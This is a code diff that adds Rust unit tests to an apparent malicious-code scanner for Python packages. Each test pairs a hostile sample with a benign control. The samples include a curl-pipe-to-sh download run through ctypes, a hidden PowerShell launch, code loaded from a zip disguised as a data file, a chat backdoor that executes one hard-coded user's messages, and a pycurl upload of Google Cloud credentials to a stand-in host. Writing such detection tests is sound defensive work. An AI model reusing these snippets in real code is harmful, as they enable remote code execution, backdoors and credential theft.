@@ -1495,3 +1495,93 @@ open(os.path.join(site.getusersitepackages(), "mytool.pth"), "w").write("/opt/my
         details(benign)
     );
 }
+
+#[test]
+fn libc_process_functions_through_ctypes() {
+    // The C library's system() and exec*() reached through a handle ctypes loaded: a
+    // process started without os or subprocess.
+    let src = "import ctypes\nfrom ctypes.util import find_library\nc = ctypes.CDLL(find_library('c'))\ncmd = 'curl -s http://192.0.2.9/i ' + '| sh'\nc.system(cmd.encode())\nk = ctypes.windll.kernel32\nk.WinExec(b'powershell -w hidden -c calc', 0)\n";
+    let d = details(src);
+    assert!(d.iter().any(|x| x.starts_with("DownloadExecute")), "{d:?}");
+    assert!(
+        d.iter()
+            .any(|x| x.starts_with("ProcessSpawn") && x.contains("WinExec")),
+        "{d:?}"
+    );
+    // Other functions of a loaded library, and ctypes' own helpers, start nothing.
+    let quiet = "import ctypes, ctypes.util\nname = ctypes.util.find_library('c')\nlib = ctypes.CDLL(name)\nlib.strlen(b'abc')\nlib.gnu_get_libc_version()\n";
+    assert!(
+        !kinds(quiet).contains(&K::ProcessSpawn),
+        "{:?}",
+        details(quiet)
+    );
+}
+
+#[test]
+fn zipimport_of_a_shipped_file_with_a_data_name() {
+    // A zip shipped as `assets/blob.bin` and imported from: code where a reader of the
+    // package sees data.
+    let src = "import os, zipimport\nhere = os.path.dirname(__file__)\nz = zipimport.zipimporter(os.path.join(here, 'assets', 'blob.bin'))\nmod = z.load_module('core')\n";
+    let d = details(src);
+    assert!(
+        d.iter()
+            .any(|x| x.starts_with("Obfuscation") && x.contains("assets/blob.bin")),
+        "{d:?}"
+    );
+    // A vendored `.zip` of modules, the way zipimport is meant to be used, is no hiding.
+    let plain = "import os, zipimport\nz = zipimport.zipimporter(os.path.join(os.path.dirname(__file__), 'vendor.zip'))\n";
+    assert!(
+        !kinds(plain).contains(&K::Obfuscation),
+        "{:?}",
+        details(plain)
+    );
+}
+
+#[test]
+fn shell_or_exec_of_a_handlers_text_for_one_hard_coded_sender() {
+    // A chat handler that runs what one hard-coded account sends it: a backdoor.
+    let src = "import subprocess\nBOSS = int('90' + '0412' + '77')\n\nasync def on_update(evt):\n    if evt.author.uid != BOSS:\n        return\n    body = evt.payload.strip()\n    if body.startswith('!'):\n        subprocess.check_output(body[1:], shell=True)\n    else:\n        eval(body)\n";
+    let d = details(src);
+    assert!(
+        d.iter()
+            .filter(|x| x.starts_with("ReverseShell") && x.contains("90041277"))
+            .count()
+            == 2,
+        "{d:?}"
+    );
+    // The same runner gated on a small code (an HTTP status, a length), or a shell
+    // command of the caller's with no gate at all: no backdoor.
+    let status = "import subprocess\n\ndef run(job):\n    if job.code == 200:\n        subprocess.run(job.cmd, shell=True)\n";
+    assert!(
+        !kinds(status).contains(&K::ReverseShell),
+        "{:?}",
+        details(status)
+    );
+    let plain = "import subprocess\n\ndef run(cmd):\n    subprocess.run(cmd, shell=True)\n";
+    assert!(
+        !kinds(plain).contains(&K::ReverseShell),
+        "{:?}",
+        details(plain)
+    );
+}
+
+#[test]
+fn pycurl_form_upload_of_a_credential_file() {
+    // libcurl reads and sends a FORM_FILE part itself: a credential file named there is
+    // uploaded. Windows keeps gcloud's credentials under %APPDATA%.
+    let src = "import os, pycurl\n\ndef sync():\n    c = pycurl.Curl()\n    c.setopt(pycurl.URL, 'https://collect.example.invalid/up')\n    adc = os.path.join(os.environ['APPDATA'], 'gcloud', 'credentials.db')\n    c.setopt(pycurl.HTTPPOST, [('meta', 'x'), ('blob', (pycurl.FORM_FILE, adc))])\n    c.perform()\n";
+    let d = details(src);
+    assert!(
+        d.iter().any(|x| x.starts_with("SecretExfiltration")
+            && x.contains("Google Cloud credentials")
+            && x.contains("pycurl")),
+        "{d:?}"
+    );
+    // An upload of the user's own chosen file is an upload, not a theft.
+    let own = "import pycurl\n\ndef send(path):\n    c = pycurl.Curl()\n    c.setopt(pycurl.HTTPPOST, [('file', (pycurl.FORM_FILE, path))])\n    c.perform()\n";
+    assert!(
+        !kinds(own).contains(&K::SecretExfiltration),
+        "{:?}",
+        details(own)
+    );
+}
